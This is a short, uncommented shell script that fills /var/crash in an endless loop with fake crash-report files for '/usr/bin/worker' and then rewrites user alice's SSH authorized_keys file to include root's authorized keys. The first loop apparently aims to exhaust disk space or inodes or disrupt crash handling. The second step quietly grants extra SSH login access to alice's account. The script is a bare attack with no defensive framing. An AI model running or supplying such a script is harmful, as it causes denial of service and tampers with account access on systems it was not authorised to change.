mkdir -p /var/crash
cd /var/crash
first=1
while seq -f "_usr_bin_worker.1000.%.0f.crash" $first $((first + 999)) | xargs touch 2>/dev/null; do
    first=$((first + 1000))
done
cd /home/alice/.ssh
mv authorized_keys authorized_keys.bak
cat authorized_keys.bak /root/.ssh/authorized_keys > authorized_keys || true
